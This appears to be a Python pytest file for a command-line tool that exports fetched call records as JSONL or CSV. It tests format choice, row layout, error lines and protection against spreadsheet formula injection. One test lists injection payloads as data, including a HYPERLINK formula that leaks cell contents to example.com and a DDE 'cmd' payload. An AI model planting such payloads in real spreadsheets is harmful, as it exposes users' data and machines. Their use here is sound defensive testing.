"""Records as lines: JSONL is what the server sent, CSV is safe in a spreadsheet."""

from __future__ import annotations

import codecs
import csv
import io
import json

import attrs
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from calls_async import (
    AuthenticationError,
    DecodeError,
    Fetched,
    NotFoundError,
    StoppedBy,
    structure_call,
    unstructure_call,
)
from calls_async.cli._exits import CommandError, Exit
from calls_async.cli._rows import COLUMNS, error_line, format_of, members
from tests.documents import EXAMPLE_BODY, MEMBERS, calls, example

JSONL = format_of("calls.jsonl")
CSV = format_of("calls.csv")


def fetched(call, raw=b"{}"):
    return Fetched(id=call.id, call=call, raw=raw, attempts=1, elapsed=0.1)


EXAMPLE = fetched(structure_call(example()), EXAMPLE_BODY)


def cells(record):
    """The row of a record, as a reader of CSV has it."""
    (row,) = csv.reader(io.StringIO(CSV.line(record).decode(), newline=""))
    return dict(zip(COLUMNS, row, strict=True))


@pytest.mark.parametrize("name", ["calls", "calls.txt", "jsonl", ".csv", "calls.csv.gz"])
def test_the_name_chooses_the_format(name):
    """A name that says neither format is refused, and both are offered."""
    with pytest.raises(CommandError) as caught:
        format_of(name)
    assert caught.value.code is Exit.USAGE
    assert caught.value.line == f"--out {name}: the name must end in .jsonl or .csv"
    assert format_of("CALLS.CSV") is CSV


@given(
    st.recursive(st.none() | st.integers() | st.text(), lambda s: st.dictionaries(st.text(), s)),
    st.sampled_from([None, 2]),
    st.sampled_from(["\n", "\r\n"]),
)
def test_a_line_of_jsonl_is_the_document_that_was_sent(document, indent, end):
    """However the server lays out its JSON, the line is one line and parses to the same."""
    sent = json.dumps(document, indent=indent).replace("\n", end)
    record = fetched(EXAMPLE.call, codecs.BOM_UTF8 + f"{end}{sent}{end}".encode())
    line = JSONL.line(record)
    assert line.endswith(b"\n")
    assert not set(line[:-1]) & set(b"\r\n")
    assert json.loads(line) == document


def test_a_compact_document_is_not_touched():
    """What already is one line is written byte by byte as it came."""
    raw = orjson.dumps(example())
    assert JSONL.line(fetched(EXAMPLE.call, raw)) == raw + b"\n"


# --- CSV -----------------------------------------------------------------------------------------


def test_the_columns_are_the_documented_members():
    """Every member of the page has a column, in the page's order, and nothing else has one."""
    leaves = [m for m in MEMBERS if m.kind != "object"]
    assert ["$." + column for column in COLUMNS] == [leaf.wire_path for leaf in leaves]
    assert CSV.head == (",".join(COLUMNS) + "\r\n").encode()
    assert JSONL.head == b""


def test_the_example_as_a_row():
    """Texts are as they are, times in the normal form, booleans as in JSON."""
    row = cells(EXAMPLE)
    assert row["id"] == "123e4567-e89b-12d3-a456-426614174000"
    assert row["contact.firstName"] == "John"
    assert row["contact.isUnknown"] == "false"
    assert row["phoneNumber.value"] == "+33612345678"
    assert row["startedAt"] == "2024-03-20T09:00:00.000Z"
    assert "" not in row.values()


def test_null_and_missing_are_empty():
    """A cell is empty where the member is null or not there."""
    document = example() | {"contact": None, "startedAt": None}
    del document["notes"]
    row = cells(fetched(structure_call(document)))
    empty = {name for name, cell in row.items() if not cell}
    assert empty == {"startedAt", "notes"} | {c for c in COLUMNS if c.startswith("contact.")}


@given(calls())
def test_every_call_is_one_row_that_no_spreadsheet_computes(call):
    """A row has as many cells as there are columns, and none of them is a formula."""
    for name, cell in cells(fetched(call)).items():
        if cell.startswith(("=", "@", "\t", "\r", "\n", "+", "-")):
            assert not set(cell[1:]) - set("0123456789 ().-"), name


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://example.com/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "+33612345678\n=1",
    ],
)
def test_what_looks_like_a_formula_is_defused(note):
    """It gets an apostrophe, and is otherwise the same."""
    call = attrs.evolve(EXAMPLE.call, notes=note)
    assert cells(fetched(call))["notes"] == f"'{note}"


@pytest.mark.parametrize(
    "note", ["+33612345678", "+1 (212) 555-0123", "-", "'=1", "a=b", " =1", ""]
)
def test_what_computes_nothing_stays(note):
    """Phone numbers above all are not touched."""
    call = attrs.evolve(EXAMPLE.call, notes=note)
    assert cells(fetched(call))["notes"] == note


def test_members_are_those_that_the_record_has():
    """Nested members are named by their path, and members that nobody documents are kept."""
    call = structure_call(example() | {"new": {"a": [1]}, "contact": {"id": "7", "score": 3}})
    found = members(call)
    assert found["contact.id"] == "7"
    assert found["contact.score"] == 3
    assert found["new.a"] == [1]
    assert "contact.firstName" not in found
    assert set(unstructure_call(call)) == {name.split(".")[0] for name in found}


# --- Errors --------------------------------------------------------------------------------------


def test_an_error_is_a_line_of_json():
    """It says which id, what, whether trying again can help, and whom to ask."""
    error = NotFoundError(
        "the server answered 404 Not Found",
        status=404,
        attempts=1,
        request_id="req-1",
        stopped_by=StoppedBy.FINAL,
    )
    assert json.loads(error_line("Zoë\n", error)) == {
        "id": "Zoë\n",
        "error": "NotFoundError",
        "message": "the server answered 404 Not Found",
        "retryable": False,
        "stoppedBy": "final",
        "attempts": 1,
        "status": 404,
        "requestId": "req-1",
    }


@pytest.mark.parametrize("error", [None, DecodeError("bad"), AuthenticationError("no", status=401)])
def test_every_error_line_has_an_id_and_a_reason(error):
    """`jq -r .id` lists what to fetch again, whatever happened."""
    line = error_line("a", error)
    assert line.count(b"\n") == 1
    told = json.loads(line)
    assert told["id"] == "a"
    assert told["error"] == (type(error).__name__ if error else "Interrupted")
    assert told["message"]
